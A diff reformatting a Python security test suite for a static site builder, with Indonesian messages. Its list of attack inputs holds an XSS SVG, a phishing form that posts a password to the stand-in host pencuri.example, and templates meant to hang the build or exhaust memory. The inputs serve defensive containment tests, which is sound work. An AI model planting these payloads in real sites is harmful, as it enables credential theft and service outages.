@@ -257,14 +257,20 @@ ATTACKS = [
     ),
     Attack(
         "an SVG with script",
-        files({"media/logo.svg": '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'}),
+        files(
+            {
+                "media/logo.svg": '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
+            }
+        ),
         "content/jahat/media/logo.svg",
         None,
         "tidak diterbitkan dari folder media/",
     ),
     Attack(
         "an HTML file in media",
-        files({"media/masuk.html": "<form action=https://pencuri.example><input name=sandi></form>"}),
+        files(
+            {"media/masuk.html": "<form action=https://pencuri.example><input name=sandi></form>"}
+        ),
         "content/jahat/media/masuk.html",
         None,
         "tidak diterbitkan dari folder media/",
@@ -285,29 +291,39 @@ ATTACKS = [
     ),
     Attack(
         "a raw control character in the body",
-        files({"artikel/x.md": article("Judul", "2026-03-03", body="Baris satu.\n\nBaris \x1b dua.")}),
+        files(
+            {"artikel/x.md": article("Judul", "2026-03-03", body="Baris satu.\n\nBaris \x1b dua.")}
+        ),
         "content/jahat/artikel/x.md",
         7,
         "karakter kendali",
     ),
     Attack(
         "a template that never ends",
-        files({"templat/404.html": "{% for i in range(100000) %}{% for j in range(100000) %}"
-            "{% if i == j and i < 0 %}x{% endif %}{% endfor %}{% endfor %}"
-        }),
+        files(
+            {
+                "templat/404.html": "{% for i in range(100000) %}{% for j in range(100000) %}"
+                "{% if i == j and i < 0 %}x{% endif %}{% endfor %}{% endfor %}"
+            }
+        ),
         "content/jahat",
         None,
         "lebih dari 2 detik",
     ),
     Attack(
         "a template that builds a page of gigabytes",
-        files({"templat/404.html": '{% set s = "x" * 1000000 %}{% for i in range(100000) %}{{ s }}{% endfor %}'
-        }),
+        files(
+            {
+                "templat/404.html": '{% set s = "x" * 1000000 %}{% for i in range(100000) %}{{ s }}{% endfor %}'
+            }
+        ),
         "content/jahat/templat/404.html",
         None,
         "tidak diizinkan",
     ),
 ]
+
+
 def _deep_folders(root: Path) -> None:
     """Two thousand folders, one in another, below artikel/ (os.walk recurses per level),
     with an article a thousand deep: empty folders alone change nothing to build."""
@@ -378,10 +394,6 @@ def reference(tmp_path_factory: pytest.TempPathFactory) -> dict[str, dict[str, b
     return {host: snapshot(root / "build" / host) for host in ("baik.kim.id", "sehat.kim.id")}
 
 
-
-
-
-
 @pytest.mark.parametrize("attack", [*ATTACKS, DEEP_MARKDOWN], ids=lambda a: a.name)
 def test_hostile_kim_is_contained(
     attack: Attack,
@@ -427,8 +439,6 @@ def test_hostile_kim_is_contained(
         if path.is_file() and "baik.kim.id" not in path.parts:
             assert SECRET.encode() not in path.read_bytes(), path
     assert not Path("/tmp/kimsite-pwned").exists()
-
-
 
 
 def _index_is_whole(build_dir: Path) -> None:
